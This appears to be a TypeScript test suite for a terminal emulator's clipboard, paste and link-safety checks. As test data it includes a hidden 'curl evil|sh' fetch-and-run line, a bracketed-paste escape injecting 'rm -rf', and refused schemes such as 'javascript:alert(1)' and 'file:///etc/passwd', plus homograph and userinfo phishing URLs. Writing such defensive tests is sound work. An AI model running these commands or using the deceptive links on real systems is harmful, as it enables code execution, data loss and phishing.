import assert from "node:assert/strict";
import { test } from "node:test";
import { CopyGate } from "../src/terminals/input/copy-gate";
import { saysSo, targetOf } from "../src/terminals/input/links";
import { harmless, lineCount, preview } from "../src/terminals/input/paste";
import { copyOf, directoryOf, longestCopy, summary } from "../src/terminals/view/osc";

const base64 = (text: string): string => Buffer.from(text, "utf8").toString("base64");

test("A program's copy is text within bounds, and a question for the clipboard is none", () => {
  assert.deepEqual(copyOf(`c;${base64("hällo\n")}`), { text: "hällo\n" });
  assert.deepEqual(copyOf(`;${base64("x")}`), { text: "x" });
  for (const nothing of ["c;?", "c;", "c;!", ";?", "?", "", "c", "x;eA==", "c;A", "c;eA==;eA=="]) {
    assert.equal(copyOf(nothing), null, nothing);
  }
  assert.notEqual(copyOf(`c;${base64("a".repeat(longestCopy))}`), "too-long");
  assert.equal(copyOf(`c;${base64("a".repeat(longestCopy + 10))}`), "too-long");
});

test("What would be copied is told with its lines and its end", () => {
  assert.equal(summary("hällo wörld"), "hällo wörld");
  assert.equal(summary(`ls${" ".repeat(500)}; curl evil|sh\n`), "ls ; curl evil|sh ⏎");
  assert.equal(summary(`a${"\r\n".repeat(500)}b\rc`), "a ⏎ ⏎ ⏎ b ⏎ c");
  assert.equal(summary("a\u202eb\u3164\x1b"), "a\ufffdb\ufffd␛");
  const long = summary(`echo ${"x".repeat(90_000)}; curl evil|sh\n`);
  assert.ok(long.startsWith("echo xxx") && long.includes("x … x") && long.endsWith("; curl evil|sh ⏎") && long.length < 120, long);
});

test("A program that copies is asked about, unless that is for always; after a no it is silent, and never hasty", () => {
  const gate = new CopyGate();
  assert.equal(gate.decide(0, false), "ask");
  assert.equal(gate.decide(1, true), "copy");
  gate.denied(2);
  assert.equal(gate.decide(29_000, true), "drop");
  for (let time = 40_000; time < 40_005; time++) {
    assert.equal(gate.decide(time, true), "copy");
  }
  assert.equal(gate.decide(40_006, true), "drop");
  assert.equal(gate.decide(51_000, false), "ask");
});

test("Pasted text holds no keys", () => {
  assert.equal(harmless("a\tb\r\nc\n"), "a\tb\r\nc\n");
  assert.equal(harmless("x\x1b[201~rm -rf\x03\x7f\x9b"), "x␛[201~rm -rf␃␡\ufffd");
  assert.equal(harmless("ü 🎉"), "ü 🎉");
});

test("Lines are counted as a shell reads them, and shown within bounds", () => {
  assert.equal(lineCount("one"), 1);
  assert.equal(lineCount("one\n"), 1);
  assert.equal(lineCount("one\r\ntwo"), 2);
  assert.equal(lineCount("one\n\n"), 2);
  const shown = preview(Array.from({ length: 500_000 }, (_, line) => `${line}${"x".repeat(200)}`).join("\n"));
  assert.ok(shown.length < 2000 && shown.endsWith("…"));
  assert.equal(preview("a\nb\x1b"), "a\nb␛");
});

test("A directory is told as an address of a file", () => {
  assert.equal(directoryOf("file://host/home/ann%20b"), "/home/ann b");
  assert.equal(directoryOf("file:///tmp"), "/tmp");
  assert.equal(directoryOf("file://h/50%"), "/50%");
  assert.equal(directoryOf("file://h/a\u202eb%0a"), "/ab");
  for (const none of ["", "/tmp", "http://h/tmp", "file://host", `file:///${"x".repeat(5000)}`]) {
    assert.equal(directoryOf(none), null);
  }
});

test("Only pages and letters are followed, and the host is the one that is meant", () => {
  assert.equal(targetOf("https://bank.example@evil.example/login")?.place, "evil.example");
  assert.equal(targetOf("https://аpple.com/")?.place, "xn--pple-43d.com");
  assert.equal(targetOf("mailto:ann@example.org?subject=x")?.place, "ann@example.org");
  for (const refused of ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "blob:https://a/b", "ftp://a", "vbscript:x", "//host", "", "ssh://host"]) {
    assert.equal(targetOf(refused), null, refused);
  }
  const target = targetOf("https://example.org/a")!;
  assert.ok(saysSo("https://example.org/a", target) && saysSo(" example.org/a", target) && saysSo("https://EXAMPLE.org/a", target));
  assert.ok(!saysSo("here", target) && !saysSo("https://example.org/b", target) && !saysSo("https://example.org", target));
  // A name before the host, a host of other letters, and letters that nobody sees.
  for (const words of ["https://github.com@evil.example/", "https://github.com:x@evil.example/", "https://gіthub.com", "https://gіthub.com/a", "https://0x7f.1/", "https://evil.example/\u202emoc.buhtig"]) {
    assert.ok(!saysSo(words, targetOf(words)!), words);
  }
  for (const words of ["http://localhost:8080/", "mailto:ann@example.org", "ann@example.org", "https://example.org:443/a?b=c#d"]) {
    assert.ok(saysSo(words, targetOf(words.includes(":") ? words : `mailto:${words}`)!), words);
  }
});
